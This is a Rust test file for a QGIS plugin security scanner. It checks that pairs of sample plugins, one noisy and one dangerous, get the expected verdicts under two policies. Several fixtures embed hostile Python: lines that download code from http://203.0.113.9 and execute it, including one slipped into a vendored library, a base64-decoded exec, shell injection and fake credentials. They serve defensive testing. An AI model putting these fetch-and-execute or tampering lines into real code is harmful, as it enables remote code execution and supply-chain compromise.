//! The verdict policies on small plugins written here: every rule of the `vetted` policy fires
//! both ways (the noisy pattern passes, its dangerous twin blocks or goes to review), and the
//! `qgis` policy keeps plugins.qgis.org's decision (on these plugins and on the public corpus).

mod support;

use sha2::{Digest, Sha256};
use support::{RawZip, valid_plugin};
use vetted_scan::policy::vendor::{INDEX_SCHEMA, VendorIndex, index_package};
use vetted_scan::report::Outcome;
use vetted_scan::{Policy, Report, ScanOptions, Verdict, scan_path};

fn scan_with(zip: &RawZip, policy: Policy, index: Option<VendorIndex>) -> Report {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = zip.write_to(dir.path(), "sample.zip");
    let options = ScanOptions {
        policy,
        vendor_index: index.map(std::sync::Arc::new),
        ..Default::default()
    };
    scan_path(&path, &options).expect("scans")
}

fn scan(zip: &RawZip, policy: Policy) -> Report {
    scan_with(zip, policy, None)
}

/// A plugin whose `main.py` (imported at start) holds `code`.
fn plugin_with(code: &str) -> RawZip {
    valid_plugin().replace("sample/main.py", code.as_bytes())
}

/// The outcome and deciding rule of the one finding of `rule` (findings, then suppressed).
fn decided(report: &Report, rule: &str) -> (Outcome, String) {
    let f = report
        .findings
        .iter()
        .chain(&report.suppressed)
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} finding in {:#?}", report.findings));
    (
        f.outcome.expect("every finding is decided"),
        f.because.clone().expect("every finding says why"),
    )
}

/// The old decision, written out: blocked when an error or a critical finding remains.
fn qgis_rule(report: &Report) -> Verdict {
    if report.verdict == Verdict::Invalid {
        return Verdict::Invalid;
    }
    let critical = report
        .findings
        .iter()
        .any(|f| f.severity == vetted_scan::Severity::Critical);
    if critical || !report.errors.is_empty() {
        Verdict::Blocked
    } else {
        Verdict::Validated
    }
}

#[test]
fn a_literal_command_passes_and_a_parameter_reaching_a_shell_blocks() {
    let noisy = plugin_with(
        "import subprocess\n\ndef version():\n    return subprocess.check_output('git describe', shell=True)\n",
    );
    let q = scan(&noisy, Policy::Qgis);
    assert_eq!(q.verdict, Verdict::Blocked, "plugins.qgis.org blocks B602");
    let v = scan(&noisy, Policy::Vetted);
    assert_eq!(
        decided(&v, "B602"),
        (Outcome::Pass, "vetted/literal-command".into())
    );
    assert_eq!(v.verdict, Verdict::Validated);

    let dangerous = plugin_with(
        "import subprocess\n\ndef run(cmd):\n    return subprocess.check_output('tool ' + cmd, shell=True)\n",
    );
    let v = scan(&dangerous, Policy::Vetted);
    assert_eq!(
        decided(&v, "B602"),
        (Outcome::Block, "vetted/input-to-shell".into())
    );
    assert_eq!(v.verdict, Verdict::Blocked);

    let downloaded = plugin_with(
        "import os\nfrom urllib.request import urlopen\n\ndef update(u):\n    script = urlopen(u).read()\n    os.system(script)\n",
    );
    let v = scan(&downloaded, Policy::Vetted);
    assert_eq!(
        decided(&v, "B605"),
        (Outcome::Block, "vetted/input-to-shell".into())
    );
}

#[test]
fn code_built_from_input_blocks_and_a_literal_passes() {
    let noisy = plugin_with("def setup():\n    exec('import math')\n");
    assert_eq!(
        decided(&scan(&noisy, Policy::Vetted), "B102").0,
        Outcome::Pass
    );
    let dangerous = plugin_with(
        "from urllib.request import urlopen\n\ndef setup():\n    exec(urlopen('http://203.0.113.9/x').read())\n",
    );
    let v = scan(&dangerous, Policy::Vetted);
    assert_eq!(
        decided(&v, "B102"),
        (Outcome::Block, "vetted/input-to-shell".into())
    );
    let opaque = plugin_with("def setup(self):\n    exec(self.snippet)\n");
    assert_eq!(
        decided(&scan(&opaque, Policy::Vetted), "B102"),
        (Outcome::Review, "vetted/built-command".into())
    );
}

#[test]
fn a_query_built_from_a_parameter_goes_to_review() {
    let dangerous = plugin_with(
        "def find(cursor, name):\n    cursor.execute(\"SELECT * FROM layers WHERE name = '\" + name + \"'\")\n",
    );
    assert_eq!(
        decided(&scan(&dangerous, Policy::Vetted), "B608"),
        (Outcome::Review, "vetted/built-command".into())
    );
    let noisy = plugin_with(
        "TABLE = 'layers'\n\ndef find(cursor):\n    cursor.execute('SELECT * FROM ' + TABLE)\n",
    );
    assert_eq!(
        decided(&scan(&noisy, Policy::Vetted), "B608").0,
        Outcome::Pass
    );
}

#[test]
fn bandit_low_ratings_never_block_on_their_own() {
    // B105 is LOW severity in Bandit: a real-looking password goes to review, never blocks.
    let low = plugin_with("password = 'Xk9#mQ2v!p'\n");
    assert_eq!(scan(&low, Policy::Qgis).verdict, Verdict::Blocked);
    let v = scan(&low, Policy::Vetted);
    assert_eq!(
        decided(&v, "B105"),
        (Outcome::Review, "vetted/rated-below-high".into())
    );
    assert_eq!(v.verdict, Verdict::Review);
    // Its twin Bandit rates HIGH/HIGH: turning off certificate checks blocks.
    let high = plugin_with(
        "import requests\n\ndef get(u):\n    return requests.get(u, verify=False, timeout=5)\n",
    );
    assert_eq!(
        decided(&scan(&high, Policy::Vetted), "B501"),
        (Outcome::Block, "vetted/critical".into())
    );
}

#[test]
fn empty_placeholder_key_and_label_values_are_not_passwords() {
    for value in [
        "",
        "Password:",
        "myplugin/password",
        "<your password>",
        "****",
    ] {
        let noisy = plugin_with(&format!("password = '{value}'\n"));
        let v = scan(&noisy, Policy::Vetted);
        assert_eq!(
            decided(&v, "B105"),
            (Outcome::Pass, "vetted/not-a-password".into()),
            "{value:?}"
        );
        assert_eq!(v.verdict, Verdict::Validated, "{value:?}");
    }
    let dangerous = plugin_with("password = 'Tr0ub4dor&3'\n");
    assert_ne!(
        decided(&scan(&dangerous, Policy::Vetted), "B105").0,
        Outcome::Pass
    );
}

#[test]
fn published_example_credentials_pass_and_real_looking_ones_block() {
    let noisy = plugin_with(
        "# AWS's documented example: AKIAIOSFODNN7EXAMPLE\nHOST = 'https://admin:hunter2go@example.com/api'\n",
    );
    let v = scan(&noisy, Policy::Vetted);
    assert_eq!(
        decided(&v, "AWSKeyDetector"),
        (Outcome::Pass, "vetted/example-credential".into())
    );
    assert_eq!(
        decided(&v, "BasicAuthDetector"),
        (Outcome::Pass, "vetted/example-credential".into())
    );

    let dangerous = plugin_with(
        "KEY = 'AKIAJ3LXQ7ZLPM2TNEWA'\nHOST = 'https://admin:hunter2go@gis.acme-survey.fr/api'\n",
    );
    let v = scan(&dangerous, Policy::Vetted);
    assert_eq!(
        decided(&v, "AWSKeyDetector"),
        (Outcome::Block, "vetted/critical".into())
    );
    assert_eq!(
        decided(&v, "BasicAuthDetector"),
        (Outcome::Block, "vetted/critical".into())
    );
    assert_eq!(v.verdict, Verdict::Blocked);
}

/// A PEM block whose body is a DER SEQUENCE of the right length, as a real key's is.
fn real_key() -> String {
    let mut der = vec![0x30, 0x81, 200, 0x02, 0x01, 0x00];
    der.extend((0..197u32).map(|i| (i * 31 % 251) as u8));
    let body = b64(&der);
    let lines: Vec<String> = body
        .as_bytes()
        .chunks(64)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect();
    format!(
        "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n",
        lines.join("\n")
    )
}

fn b64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0u32, |a, &b| (a << 8) | u32::from(b)) << (8 * (3 - chunk.len()));
        for i in 0..=chunk.len() {
            s.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
        for _ in chunk.len()..3 {
            s.push('=');
        }
    }
    s
}

#[test]
fn a_private_key_blocks_only_when_it_parses_outside_test_fixtures() {
    let fake = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAyour-key-here\n-----END RSA PRIVATE KEY-----\n";
    let noisy = valid_plugin().add("sample/keys/server.key", fake.as_bytes());
    assert_eq!(
        decided(&scan(&noisy, Policy::Vetted), "PrivateKeyDetector"),
        (Outcome::Pass, "vetted/not-a-key".into())
    );
    let fixture = valid_plugin().add("sample/tests/data/server.key", real_key().as_bytes());
    assert_eq!(
        decided(&scan(&fixture, Policy::Vetted), "PrivateKeyDetector"),
        (Outcome::Pass, "vetted/test-fixture".into())
    );
    let dangerous = valid_plugin().add("sample/keys/server.key", real_key().as_bytes());
    let v = scan(&dangerous, Policy::Vetted);
    assert_eq!(
        decided(&v, "PrivateKeyDetector"),
        (Outcome::Block, "vetted/real-key".into())
    );
    assert_eq!(v.verdict, Verdict::Blocked);
}

#[test]
fn a_key_only_tests_use_is_a_fixture_and_a_demo_key_is_reviewed() {
    // A test server folder: only the tests import it, so its certificates are test material.
    let support = valid_plugin()
        .add("sample/testserver/__init__.py", b"CERTS = 'certs'\n")
        .add("sample/testserver/certs/server.key", real_key().as_bytes())
        .add(
            "sample/tests/test_net.py",
            b"from ..testserver import CERTS\n\ndef test_certs():\n    assert CERTS\n",
        );
    let v = scan(&support, Policy::Vetted);
    assert_eq!(
        decided(&v, "PrivateKeyDetector"),
        (Outcome::Pass, "vetted/test-fixture".into())
    );
    let f = v
        .findings
        .iter()
        .find(|f| f.rule == "PrivateKeyDetector")
        .expect("the key is found");
    assert_eq!(f.fact("test_support"), Some("sample/testserver/"));
    assert_eq!(v.verdict, Verdict::Validated, "{:#?}", v.policy);

    // The same folder used by the plugin's own code is plugin material: the key blocks.
    let used = support.clone().replace(
        "sample/main.py",
        b"from .testserver import CERTS\n\nclass Plugin:\n    def __init__(self, iface):\n        self.certs = CERTS\n",
    );
    let v = scan(&used, Policy::Vetted);
    assert_eq!(
        decided(&v, "PrivateKeyDetector"),
        (Outcome::Block, "vetted/real-key".into())
    );
    assert_eq!(v.verdict, Verdict::Blocked);

    // A real key shipped beside demo scripts: a person decides.
    let demo = valid_plugin()
        .add("sample/demos/user_rsa_key", real_key().as_bytes())
        .add("sample/demos/demo.py", b"KEY = 'user_rsa_key'\n");
    let v = scan(&demo, Policy::Vetted);
    assert_eq!(
        decided(&v, "PrivateKeyDetector"),
        (Outcome::Review, "vetted/sample-key".into())
    );
    assert_eq!(v.verdict, Verdict::Review);
    // plugins.qgis.org blocks all three.
    for zip in [&support, &used, &demo] {
        assert_eq!(scan(zip, Policy::Qgis).verdict, Verdict::Blocked);
    }
}

#[test]
fn python_2_syntax_does_not_hide_a_shell_call_from_the_policy() {
    let dangerous = plugin_with(
        "import os\n\nclass Plugin:\n    def __init__(self, iface):\n        print 'loading'\n\n    def run(self, cmd):\n        os.system(cmd)\n",
    );
    let v = scan(&dangerous, Policy::Vetted);
    let f = v
        .findings
        .iter()
        .find(|f| f.rule == "B605")
        .unwrap_or_else(|| panic!("B605 found in the recovered tree: {:#?}", v.findings));
    assert_eq!(f.fact("recovered"), Some("yes"));
    assert_eq!(
        decided(&v, "B605"),
        (Outcome::Block, "vetted/input-to-shell".into())
    );
    assert_eq!(v.verdict, Verdict::Blocked);
    assert!(
        v.errors.iter().any(|e| e.path == "sample/main.py"),
        "the file's syntax error is still reported as Bandit reports it"
    );

    // Its twin runs a literal command: the recovered finding passes, and the version needs
    // review only because the broken file is loaded at start.
    let noisy = plugin_with(
        "import os\n\nclass Plugin:\n    def __init__(self, iface):\n        print 'loading'\n\n    def run(self):\n        os.system('ls')\n",
    );
    let v = scan(&noisy, Policy::Vetted);
    assert_eq!(
        decided(&v, "B605"),
        (Outcome::Pass, "vetted/literal-command".into())
    );
    assert_eq!(v.verdict, Verdict::Review);

    // Under `qgis` the finding is listed but passes: Bandit never reports it, the syntax error
    // blocks instead, exactly as on plugins.qgis.org.
    let q = scan(&dangerous, Policy::Qgis);
    assert_eq!(
        decided(&q, "B605"),
        (Outcome::Pass, "qgis/not-seen-by-bandit".into())
    );
    assert_eq!(q.verdict, Verdict::Blocked);
    let bandit_json = vetted_scan::bandit::render_report(&q);
    assert!(
        !bandit_json.contains("\"B605\""),
        "Bandit-shaped output leaves recovered findings out: {bandit_json}"
    );
    // The tool-compatible profile behaves as Bandit: no recovered findings at all.
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dangerous.write_to(dir.path(), "sample.zip");
    let options = ScanOptions {
        profile: vetted_scan::options::Profile::ToolDefaults,
        ..Default::default()
    };
    let t = scan_path(&path, &options).expect("scans");
    assert!(
        t.findings.iter().all(|f| f.fact("recovered").is_none()),
        "{:#?}",
        t.findings
    );
}

#[test]
fn quality_findings_never_block_and_broken_files_matter_only_when_loaded() {
    let noisy = valid_plugin().add(
        "sample/samples/old_script.py",
        b"print 'hello'\nundefined_name\n",
    );
    let q = scan(&noisy, Policy::Qgis);
    assert_eq!(
        q.verdict,
        Verdict::Blocked,
        "E999 and the Bandit parse error block on plugins.qgis.org"
    );
    let v = scan(&noisy, Policy::Vetted);
    assert_eq!(v.verdict, Verdict::Validated, "{:#?}", v.policy);
    assert_eq!(v.broken_files.len(), 1);
    assert_eq!(v.broken_files[0].path, "sample/samples/old_script.py");
    assert!(!v.broken_files[0].loaded_at_start);

    let undefined = plugin_with("def run():\n    return missing_helper()\n");
    let v = scan(&undefined, Policy::Vetted);
    assert_eq!(
        decided(&v, "F821"),
        (Outcome::Pass, "vetted/quality-not-security".into())
    );

    let dangerous =
        plugin_with("class Plugin:\n    def __init__(self, iface):\n        print 'loading'\n");
    let v = scan(&dangerous, Policy::Vetted);
    assert_eq!(v.verdict, Verdict::Review);
    assert!(
        v.broken_files
            .iter()
            .any(|b| b.path == "sample/main.py" && b.loaded_at_start)
    );
}

/// `RECORD` line for a file, as pip writes it.
fn record_line(path: &str, bytes: &[u8]) -> String {
    let b64 = b64(&Sha256::digest(bytes))
        .trim_end_matches('=')
        .replace('+', "-")
        .replace('/', "_");
    format!("{path},sha256={b64},{}\n", bytes.len())
}

const LIB_INIT: &str = "import pickle\n\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n\ndef run(src):\n    exec(src)\n";

fn vendored(lib_init: &str, record_of: &str) -> RawZip {
    let record = record_line("toolz/__init__.py", record_of.as_bytes())
        + "toolz-1.2.dist-info/METADATA,,\ntoolz-1.2.dist-info/RECORD,,\n";
    valid_plugin()
        .add("sample/ext/toolz/__init__.py", lib_init.as_bytes())
        .add(
            "sample/ext/toolz-1.2.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: toolz\nVersion: 1.2\n",
        )
        .add("sample/ext/toolz-1.2.dist-info/RECORD", record.as_bytes())
}

#[test]
fn an_unmodified_vendored_library_passes_and_a_hidden_change_does_not() {
    let noisy = vendored(LIB_INIT, LIB_INIT);
    assert_eq!(scan(&noisy, Policy::Qgis).verdict, Verdict::Blocked);
    let v = scan(&noisy, Policy::Vetted);
    assert_eq!(v.libraries.len(), 1);
    assert_eq!(
        v.libraries[0].describe(),
        "library toolz version 1.2 at sample/ext/, unmodified"
    );
    assert_eq!(
        decided(&v, "B102"),
        (Outcome::Pass, "vetted/vendored-unmodified".into())
    );
    assert_eq!(
        decided(&v, "B301"),
        (Outcome::Pass, "vetted/vendored-unmodified".into())
    );
    assert_eq!(v.verdict, Verdict::Validated);

    // One line added to the library's own file, everything else identical.
    let tampered = format!(
        "{LIB_INIT}\nimport os\nfrom urllib.request import urlopen\nos.system(urlopen('http://203.0.113.9/s').read())\n"
    );
    let v = scan(&vendored(&tampered, LIB_INIT), Policy::Vetted);
    assert_eq!(
        v.libraries[0].changed_files,
        vec!["sample/ext/toolz/__init__.py"]
    );
    assert_eq!(
        decided(&v, "B605"),
        (Outcome::Block, "vetted/input-to-shell".into())
    );
    assert_eq!(
        decided(&v, "B301").0,
        Outcome::Review,
        "the rest of a changed file goes to review"
    );
    assert_eq!(v.verdict, Verdict::Blocked);
}

#[test]
fn the_offline_index_recognises_a_copy_without_metadata() {
    let wheel = RawZip::new()
        .add("toolz/__init__.py", LIB_INIT.as_bytes())
        .add("toolz/util.py", b"def f():\n    return 1\n")
        .add(
            "toolz-1.2.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: toolz\nVersion: 1.2\n",
        )
        .add("toolz-1.2.dist-info/RECORD", b"");
    let package = index_package("toolz-1.2-py3-none-any.whl", &wheel.bytes()).expect("indexes");
    assert_eq!(package.files.len(), 2);
    let index = VendorIndex {
        schema: INDEX_SCHEMA.into(),
        packages: vec![package],
    };
    let copy = |init: &str| {
        valid_plugin()
            .add("sample/libs/toolz/__init__.py", init.as_bytes())
            .add("sample/libs/toolz/util.py", b"def f():\n    return 1\n")
    };
    let v = scan_with(&copy(LIB_INIT), Policy::Vetted, Some(index.clone()));
    assert_eq!(v.libraries.len(), 1, "{:#?}", v.libraries);
    assert!(v.libraries[0].unmodified());
    assert_eq!(v.libraries[0].source, "index");
    assert_eq!(v.verdict, Verdict::Validated);
    // Without the index nothing says it is a library: its findings are the author's.
    assert_ne!(
        scan(&copy(LIB_INIT), Policy::Vetted).verdict,
        Verdict::Validated
    );

    let tampered = LIB_INIT.replace("exec(src)", "exec(__import__('base64').b64decode(src))");
    let v = scan_with(&copy(&tampered), Policy::Vetted, Some(index));
    assert_eq!(
        v.libraries[0].changed_files,
        vec!["sample/libs/toolz/__init__.py"]
    );
    assert_ne!(decided(&v, "B102").0, Outcome::Pass);
    assert_ne!(v.verdict, Verdict::Validated);
}

#[test]
fn a_suppression_on_a_blocking_finding_is_a_claim_to_review() {
    let claimed = plugin_with("import os\n\ndef run(cmd):\n    os.system(cmd)  # nosec\n");
    let q = scan(&claimed, Policy::Qgis);
    assert_eq!(
        q.verdict,
        Verdict::Validated,
        "plugins.qgis.org honours # nosec"
    );
    let v = scan(&claimed, Policy::Vetted);
    assert_eq!(
        decided(&v, "B605"),
        (Outcome::Review, "vetted/author-claim".into())
    );
    assert_eq!(v.verdict, Verdict::Review);
    // A claim on something that would pass anyway changes nothing.
    let harmless = plugin_with("import os\n\ndef run():\n    os.system('ls')  # nosec\n");
    assert_eq!(scan(&harmless, Policy::Vetted).verdict, Verdict::Validated);
}

#[test]
fn a_threat_blocks_even_inside_an_unmodified_library() {
    let threat = "import base64 as b\nblob = 'cHJpbnQoMSk='\n\ndef go():\n    eval(compile(b.b64decode(blob), 'x', 'exec'))\n";
    let v = scan(&vendored(threat, threat), Policy::Vetted);
    assert!(v.libraries[0].unmodified());
    let threats: Vec<_> = v
        .findings
        .iter()
        .filter(|f| f.check == vetted_scan::report::Check::Qgis)
        .collect();
    assert!(!threats.is_empty(), "{:#?}", v.findings);
    for f in threats {
        assert_eq!(f.outcome, Some(Outcome::Block));
        assert_eq!(f.because.as_deref(), Some("vetted/threat"));
    }
    assert_eq!(v.verdict, Verdict::Blocked);
}

#[test]
fn the_qgis_policy_keeps_the_old_decision_on_these_plugins() {
    let plugins = [
        plugin_with("import subprocess\nsubprocess.call('ls', shell=True)\n"),
        plugin_with("password = ''\n"),
        vendored(LIB_INIT, LIB_INIT),
        valid_plugin().add("sample/x.py", b"print 'py2'\n"),
        valid_plugin(),
    ];
    for p in &plugins {
        let r = scan(p, Policy::Qgis);
        assert_eq!(r.verdict, qgis_rule(&r));
        let policy = r.policy.as_ref().expect("recorded");
        assert_eq!(
            (policy.name.as_str(), policy.version.as_str()),
            ("qgis", "1")
        );
    }
}

#[test]
fn a_stored_report_is_re_decided_without_rescanning() {
    let r = scan(&plugin_with("password = ''\n"), Policy::Qgis);
    assert_eq!(r.verdict, Verdict::Blocked);
    let mut stored: Report =
        serde_json::from_str(&serde_json::to_string(&r).expect("encodes")).expect("decodes");
    vetted_scan::policy::apply(&mut stored, Policy::Vetted);
    assert_eq!(stored.verdict, Verdict::Validated);
    vetted_scan::policy::apply(&mut stored, Policy::Qgis);
    assert_eq!(stored, r, "deciding again under qgis gives the same report");
}

/// Every package of the public corpus keeps the verdict the old rule gives (VETTED_CORPUS).
#[test]
fn the_qgis_policy_keeps_the_old_decision_on_the_corpus() {
    let Some(corpus) = std::env::var_os("VETTED_CORPUS") else {
        eprintln!("VETTED_CORPUS not set: corpus check skipped");
        return;
    };
    let mut seen = 0;
    for entry in std::fs::read_dir(corpus).expect("corpus folder") {
        let path = entry.expect("entry").path();
        if !path.is_dir() {
            continue;
        }
        let r = scan_path(&path, &ScanOptions::default()).expect("scans");
        assert_eq!(r.verdict, qgis_rule(&r), "{}", path.display());
        seen += 1;
    }
    assert!(seen >= 15, "only {seen} corpus packages");
}
